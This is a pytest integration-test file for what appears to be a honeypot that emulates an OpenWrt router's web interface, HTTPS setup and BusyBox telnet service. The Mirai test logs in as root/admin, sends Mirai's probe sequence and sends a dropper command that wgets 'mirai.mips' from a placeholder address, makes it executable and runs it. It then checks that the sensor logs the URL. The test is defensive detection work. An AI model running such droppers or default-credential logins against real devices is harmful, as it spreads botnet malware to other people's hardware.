"""The openwrt persona (OpenWrt 23.05.2 router: uhttpd + LuCI on 80/443,
BusyBox telnetd on 23; dropbear on 22 is test_openwrt_ssh's) driven by
real clients: curl (HTTP/1.1 and 1.0, HTTPS), openssl x509, raw sockets for
telnet, nmap -sV in a network namespace. The telnet differential test
(test/it/test_telnet_busybox.py) runs here too, with this persona's
hostname: the real BusyBox telnetd must print "OpenWrt login: " alike.

Expected values come from OpenWrt's sources (uhttpd 34a8a74d client.c and
file.c, luci-base, uhttpd.init), read for this persona (see its .conf
files), not from lure's own output."""
import os
import re
import subprocess
import time
from pathlib import Path

import pytest

from conftest import (REPO, get, kept_alive_close, persona, recv_to_eof,
                      recv_until, tcp)

persona("openwrt")

# the differential test against the real BusyBox telnetd, with this
# persona's hostname (its fixtures come along)
from it.test_telnet_busybox import (  # noqa: E402,F401
    fake, real, test_same_bytes_as_busybox, test_users_absent)

FILES = REPO / "emu" / "personas" / "openwrt" / "files"
NEG = b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03"
PROMPT = b"root@OpenWrt:~# "


@pytest.fixture(scope="module")
def router(tmp_path_factory):
    from conftest import Sensor
    d = tmp_path_factory.mktemp("openwrt")
    s = Sensor(d, "openwrt")
    s.start({"state_file": str(d / "state"),
             "limits": {"idle_timeout": 30, "per_ip": 64}})
    s.http = s.port(80)
    s.https = s.port(443)
    s.telnet = s.port(23)
    yield s
    s.close()


def curl_head(*args):
    """curl -sS -D - ...: (head bytes, body bytes)."""
    r = subprocess.run(["curl", "-sS", "--max-time", "5", "-D", "/dev/stderr",
                        "-o", "-", *args], capture_output=True, timeout=15)
    assert r.returncode == 0, r.stderr
    return r.stderr, r.stdout


def header_lines(head):
    lines = head.decode("latin-1").split("\r\n")
    assert lines[-1] == "" and lines[-2] == "", head
    return lines[0], lines[1:-2]


# --- uhttpd -----------------------------------------------------------------

def test_index_is_luci_redirect_page(router):
    head, body = curl_head(f"http://127.0.0.1:{router.http}/")
    status, hdrs = header_lines(head)
    assert status == "HTTP/1.1 200 OK"
    names = [h.split(":", 1)[0] for h in hdrs]
    # uh_http_header() then uh_file_response_ok_hdrs() then type and length
    assert names == ["Connection", "Keep-Alive", "ETag", "Last-Modified",
                     "Date", "Content-Type", "Content-Length"], hdrs
    assert hdrs[0] == "Connection: Keep-Alive"
    assert hdrs[1] == "Keep-Alive: timeout=20"
    page = (FILES / "index.html").read_bytes()
    assert body == page
    assert b'<meta http-equiv="refresh" content="0; URL=cgi-bin/luci/" />' in body
    assert hdrs[6] == f"Content-Length: {len(page)}"
    assert hdrs[5] == "Content-Type: text/html"
    # "<inode>-<size>-<mtime>" in hex: the image's build time 2023-11-14 13:38:11
    assert hdrs[2] == f'ETag: "1e0-{len(page):x}-{1699969091:x}"'
    assert hdrs[3] == "Last-Modified: Tue, 14 Nov 2023 13:38:11 GMT"
    assert not any(n.lower() == "server" for n in names)


def test_http10_closes_without_keepalive(router):
    head, body = curl_head("-0", f"http://127.0.0.1:{router.http}/")
    status, hdrs = header_lines(head)
    assert status == "HTTP/1.0 200 OK"
    assert hdrs[0] == "Connection: close"
    assert not any(h.startswith("Keep-Alive") for h in hdrs)
    assert body == (FILES / "index.html").read_bytes()


def test_kept_alive_connection_closes_after_http_keepalive(router):
    """uhttpd closes a kept-alive client idle for http_keepalive (20 s, the
    timeout=20 its Keep-Alive header names), not at lure's 60 s."""
    data, closed, took = kept_alive_close(
        router.http, b"GET / HTTP/1.1\r\nHost: router\r\n\r\n", 35)
    assert data.startswith(b"HTTP/1.1 200 OK") and b"timeout=20" in data
    assert closed and 19.5 <= took <= 23, took


def test_404_is_uhttpd_text_chunked(router):
    c = tcp(router.http)
    c.sendall(b"GET /nothing/here.php HTTP/1.1\r\nHost: x\r\n\r\n")
    data = recv_until(c, b"0\r\n\r\n")
    c.close()
    head, _, body = data.partition(b"\r\n\r\n")
    assert head.split(b"\r\n") == [
        b"HTTP/1.1 404 Not Found", b"Connection: Keep-Alive",
        b"Transfer-Encoding: chunked", b"Keep-Alive: timeout=20",
        b"Content-Type: text/html"], head
    text = b"<h1>Not Found</h1>The requested URL /nothing/here.php was not found on this server."
    # decoded body: the same text (uhttpd sends it as two chunks)
    size, _, rest = body.partition(b"\r\n")
    assert rest[:int(size, 16)] == text
    assert rest[int(size, 16):] == b"\r\n0\r\n\r\n"


def test_404_http10_no_length_then_close(router):
    c = tcp(router.http)
    c.sendall(b"GET /x HTTP/1.0\r\n\r\n")
    data, closed = recv_to_eof(c, timeout=5)
    c.close()
    assert closed
    assert data == (b"HTTP/1.0 404 Not Found\r\nConnection: close\r\n"
                    b"Content-Type: text/html\r\n\r\n<h1>Not Found</h1>"
                    b"The requested URL /x was not found on this server.")


def test_luci_login_page_403(router):
    for path in ("/cgi-bin/luci/", "/cgi-bin/luci", "/cgi-bin/luci/admin/system"):
        head, body = curl_head(f"http://127.0.0.1:{router.http}{path}")
        status, hdrs = header_lines(head)
        assert status == "HTTP/1.1 403 Forbidden", path
        assert hdrs[:3] == ["Connection: Keep-Alive", "Transfer-Encoding: chunked",
                            "Keep-Alive: timeout=20"]
        assert "x-luci-login-required: yes" in hdrs
        assert "x-frame-options: SAMEORIGIN" in hdrs
        assert b'name="luci_password"' in body and b"<title>OpenWrt - LuCI</title>" in body
    # a login attempt is logged with its form body
    curl_head("--data", "luci_username=root&luci_password=hunter2",
              f"http://127.0.0.1:{router.http}/cgi-bin/luci/")
    e = router.wait_event("request", timeout=5, http__request__method="POST")
    assert "luci_password=hunter2" in get(e, "http.request.body.content")


def test_https_same_site_and_px5g_subject(router, tmp_path):
    head, body = curl_head("-k", f"https://127.0.0.1:{router.https}/")
    assert header_lines(head)[0] == "HTTP/1.1 200 OK"
    assert body == (FILES / "index.html").read_bytes()
    r = subprocess.run(["openssl", "s_client", "-connect", f"127.0.0.1:{router.https}",
                        "-showcerts"], input=b"", capture_output=True, timeout=15)
    pem = re.search(rb"-----BEGIN CERTIFICATE-----.*?-----END CERTIFICATE-----",
                    r.stdout, re.S)
    assert pem, r.stdout[-500:]
    (tmp_path / "c.pem").write_bytes(pem.group(0))
    x = subprocess.run(["openssl", "x509", "-in", str(tmp_path / "c.pem"), "-noout",
                        "-subject", "-issuer", "-startdate", "-enddate",
                        "-nameopt", "RFC2253"],
                       capture_output=True, text=True, timeout=10, check=True).stdout
    subj = re.search(r"subject=(.*)", x).group(1)
    assert re.fullmatch(r"CN=OpenWrt,O=OpenWrt[0-9a-f]{8},L=Unknown,ST=Somewhere,C=ZZ", subj), x
    assert re.search(r"issuer=(.*)", x).group(1) == subj  # self-signed
    fmt = "%b %d %H:%M:%S %Y GMT"
    nb = time.strptime(re.search(r"notBefore=(.*)", x).group(1).replace("  ", " "), fmt)
    na = time.strptime(re.search(r"notAfter=(.*)", x).group(1).replace("  ", " "), fmt)
    days = (time.mktime(na) - time.mktime(nb)) / 86400
    assert round(days) == 730, x
    assert (2023, 11, 15) <= nb[:3] <= (2024, 11, 15), x


# uhttpd's server list (ustream-ssl's default_ciphersuites_server[] for
# 23.05, the RSA-certificate part, in order): mbedTLS's server takes the
# first of its own list that the client offers
USTREAM = ["ECDHE-RSA-CHACHA20-POLY1305", "ECDHE-RSA-AES128-GCM-SHA256",
           "ECDHE-RSA-AES256-GCM-SHA384", "ECDHE-RSA-AES128-SHA",
           "ECDHE-RSA-AES256-SHA", "AES128-GCM-SHA256", "AES256-GCM-SHA384",
           "AES128-SHA", "AES256-SHA"]


def s_client(port, *args):
    r = subprocess.run(["openssl", "s_client", "-connect", f"127.0.0.1:{port}",
                        *args], input=b"", capture_output=True, timeout=15)
    m = re.search(rb"Cipher is (\S+)", r.stdout)
    return m.group(1).decode() if m and m.group(1) != b"(NONE)" else None


@pytest.mark.parametrize("offer", [
    USTREAM[::-1],  # the client's order is not the server's
    ["AES256-SHA", "ECDHE-RSA-AES256-SHA", "AES128-GCM-SHA256"],
    ["AES256-SHA", "AES128-SHA"],  # RSA key exchange, CBC only
    ["ECDHE-RSA-AES256-GCM-SHA384", "ECDHE-RSA-AES128-SHA"],
])
def test_https_suites_as_uhttpd(router, offer):
    want = next(c for c in USTREAM if c in offer)
    got = s_client(router.https, "-tls1_2", "-cipher", ":".join(offer))
    assert got == want, (offer, got)


def test_https_refuses_what_uhttpd_lacks(router):
    # no DHE, no 3DES, no CBC-SHA256 on the list; TLS 1.2 only
    assert s_client(router.https, "-tls1_2", "-cipher",
                    "DHE-RSA-AES128-GCM-SHA256:AES128-SHA256") is None
    assert s_client(router.https, "-tls1_1", "-cipher",
                    "ALL@SECLEVEL=0") is None
    assert s_client(router.https, "-tls1_3") is None


# --- telnet -------------------------------------------------------------------

def telnet_login(router, user, password):
    c = tcp(router.telnet, timeout=8)
    got = recv_until(c, b"login: ")
    assert got == NEG + b"\r\r\nOpenWrt login: ", got
    c.sendall(user + b"\r\n")
    assert recv_until(c, b"Password: ").endswith(b"Password: ")
    c.sendall(password + b"\r\n")
    return c


def test_telnet_wrong_login(router):
    c = telnet_login(router, b"admin", b"admin")
    got = recv_until(c, b"login: ", timeout=6)
    c.close()
    assert got == b"\r\nLogin incorrect\r\nOpenWrt login: ", got
    e = router.wait_event("login", timeout=5, user__name="admin")
    assert get(e, "event.outcome") == "failure"
    assert get(e, "lure.auth.password") == "admin"


PS1 = re.compile(rb"root@OpenWrt:[^\r\n#]*# \Z")  # '\u@\h:\w\$ '


def sh(c, line, timeout=5):
    """Send a command line; returns what came back before the next prompt
    (the echo of the line included)."""
    c.sendall(line + b"\r\n")
    got = b""
    end = time.monotonic() + timeout
    while not PS1.search(got) and time.monotonic() < end:
        got += recv_until(c, b"# ", max(0.1, end - time.monotonic()))
    m = PS1.search(got)
    assert m, (line, got)
    return got[:m.start()]


def test_telnet_login_shell_and_mirai_sequence(router):
    c = telnet_login(router, b"root", b"admin")
    got = recv_until(c, PROMPT, timeout=5)
    # login -> ash greeting -> /etc/profile's banner -> PS1 '\u@\h:\w\$ '
    assert got.startswith(b"\r\n\r\n\r\nBusyBox v1.36.1 (2023-11-14 13:38:11 UTC) "
                          b"built-in shell (ash)\r\n\r\n"), got
    assert b"W I R E L E S S   F R E E D O M" in got, got
    assert b" OpenWrt 23.05.2, r23630-842932a63d\r\n" in got, got
    assert got.endswith(PROMPT)
    e = router.wait_event("login", timeout=5, user__name="root")
    assert get(e, "event.outcome") == "success"
    assert get(e, "lure.auth.password") == "admin"
    session = get(e, "lure.session")
    # Mirai's sequence after a login (scanner.c / attack on telnet)
    for line in (b"enable", b"system", b"shell", b"sh"):
        sh(c, line)
    out = sh(c, b"/bin/busybox MIRAI")
    assert out == b"/bin/busybox MIRAI\r\nMIRAI: applet not found\r\n", out
    drop = (b"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
            b"wget http://192.0.2.7/bins/mirai.mips; chmod 777 mirai.mips; "
            b"./mirai.mips telnet.mips")
    sh(c, drop)
    c.sendall(b"exit\r\n")
    c.close()
    cmds = router.wait_count(6, "command", timeout=5, lure__session=session)
    lines = [get(x, "lure.command") for x in cmds]
    assert lines[:5] == ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"]
    assert lines[5] == drop.decode()
    assert "http://192.0.2.7/bins/mirai.mips" in get(cmds[5], "lure.indicators.url")
    assert all(get(x, "user.name") == "root" and get(x, "event.dataset") == "lure.telnet"
               for x in cmds)


def test_telnet_output_beyond_buffer_is_held_not_lost(lure, tmp_path):
    """With the smallest output buffer (512 bytes) the banner and a long
    answer do not fit at once: the rest waits, input is held meanwhile, and
    three commands sent in one write come back whole and in order."""
    s = lure({"limits": {"out_buf": 512, "idle_timeout": 30},
              "state_file": str(tmp_path / "state")})
    s.telnet = s.port(23)
    c = telnet_login(s, b"root", b"root")
    banner = recv_until(c, PROMPT, timeout=5)
    assert b"W I R E L E S S" in banner and banner.endswith(PROMPT)
    one = sh(c, b"cat /proc/cpuinfo")
    assert len(one) > 512, one
    c.sendall(b"cat /proc/cpuinfo\r\ncat /proc/cpuinfo\r\necho done\r\n")
    want = one + PROMPT + one + PROMPT + b"echo done\r\ndone\r\n" + PROMPT
    got = recv_until(c, b"done\r\n" + PROMPT, timeout=10)
    c.close()
    assert got == want, (len(got), len(want), got[-300:], want[-300:])


# --- nmap ----------------------------------------------------------------------

NS = ("ip", "netns", "exec")


def test_nmap_names_busybox_telnetd(lure, netns, tmp_path):
    import xml.etree.ElementTree as ET
    db = os.environ.get("LURE_NMAP_DB")
    s = lure({"listen": ["127.0.0.1"], "state_file": str(tmp_path / "state")},
             offset=0, wrap=NS + (netns,))
    for datadir in ([] if not db else [["--datadir", str(Path(db).resolve())]]) + [[]]:
        xml = tmp_path / "nmap.xml"
        r = subprocess.run(list(NS) + [netns, "nmap", "-n", "-Pn", "-sV", "-p", "23",
                                       "-oX", str(xml), *datadir, "127.0.0.1"],
                           capture_output=True, timeout=300)
        assert r.returncode == 0, r.stderr.decode()
        svc = next(ET.parse(xml).getroot().iter("port")).find("service")
        assert svc.get("name") == "telnet"
        assert svc.get("product") == "BusyBox telnetd", ET.tostring(svc)
        assert svc.get("hostname") == "OpenWrt", ET.tostring(svc)
    assert s.find("connection.open")
